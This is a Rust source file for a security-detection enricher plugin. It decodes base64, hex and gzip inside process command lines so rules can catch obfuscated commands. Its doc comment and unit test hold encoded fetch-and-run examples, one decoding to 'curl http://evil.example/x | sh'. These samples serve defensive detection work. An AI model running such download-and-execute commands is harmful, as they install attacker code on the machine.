//! The enricher `decode`: what encoded parts of command lines say, as `enrich.decode.text`.
//!
//! `echo Y3VybCAuLi4= | base64 -d | sh` hides its words from every rule on `CommandLine`. This guest finds base64, hex and gzip inside
//! them, decodes up to three layers, and gives the texts as one list per event: a rule on `enrich.decode.text` sees through.

mod layers;

use picket_guest::{Cells, Column, ColumnBuilder, Diagnostic, Enricher, Plan, Setup, Shape, Source, Turn, host};

pub use layers::{Decoded, decode};

struct Decode;

impl Enricher for Decode {
    fn init(_setup: Setup) -> Result<(Self, Plan), Vec<Diagnostic>> {
        let doc = "texts found in base64, hex or gzip in the command line, up to three layers deep";
        let plan = Plan::new()
            .subscribe(Source::category("process_creation"), &["CommandLine"])
            // Command lines do not depend on each other.
            .replicated()
            .output("text", Shape::TextList, doc);
        Ok((Decode, plan))
    }

    fn enrich(&mut self, turn: &Turn) -> Vec<Vec<Column>> {
        turn.batches.iter().map(|batch| vec![texts(&batch.columns[0], batch.rows)]).collect()
    }
}

/// The texts of each row. Equal command lines are decoded once.
fn texts(lines: &Column, rows: u32) -> Column {
    let mut found = ColumnBuilder::text_list();
    let Cells::Text(values) = &lines.cells else {
        (0..rows).for_each(|_| found.absent());
        return found.finish();
    };
    let mut known: Vec<Option<Decoded>> = Vec::new();
    known.resize_with(values.distinct(), || None);
    for row in 0..rows {
        match (lines.text(row), known.get_mut(values.code(row as usize))) {
            (Some(line), Some(slot)) => {
                let decoded = slot.get_or_insert_with(|| {
                    let decoded = decode(line);
                    if decoded.cut {
                        host::count("cut", 1);
                    }
                    decoded
                });
                found.push(decoded.texts.iter().map(Vec::as_slice));
            }
            _ => found.absent(),
        }
    }
    found.finish()
}

picket_guest::export_enricher!(Decode);

#[cfg(test)]
mod tests {
    use picket_guest::{Batch, Texts};

    use super::*;

    #[test]
    fn rows_keep_their_order_with_and_without_a_dictionary() {
        let lines = [&b"ls"[..], b"echo Y3VybCBodHRwOi8vZXZpbC5leGFtcGxlL3ggfCBzaA=="];
        let arena: Vec<u8> = lines.concat();
        let ends = vec![2, arena.len() as u32];
        let batch = |codes: Vec<u32>, presence: Vec<u8>, rows| Batch {
            subscription: 0,
            rows,
            seqs: (0..u64::from(rows)).collect(),
            times: vec![0; rows as usize],
            columns: vec![Column {
                cells: Cells::Text(Texts { arena: arena.clone(), ends: ends.clone(), codes }),
                presence,
            }],
        };
        let turn = Turn {
            batches: vec![batch(vec![1, 0, 1, 1], vec![1, 1, 1, 0], 4), batch(vec![], vec![], 2)],
            watermark: 0,
        };
        let answer = Decode.enrich(&turn);
        let has =
            |batch: usize, row| answer[batch][0].items(row).map(|items| items.map(<[u8]>::to_vec).collect::<Vec<_>>());
        let hidden = Some(vec![b"curl http://evil.example/x | sh".to_vec()]);
        assert_eq!([has(0, 0), has(0, 1), has(0, 2), has(0, 3)], [hidden.clone(), None, hidden.clone(), None]);
        assert_eq!([has(1, 0), has(1, 1)], [None, hidden]);
    }
}
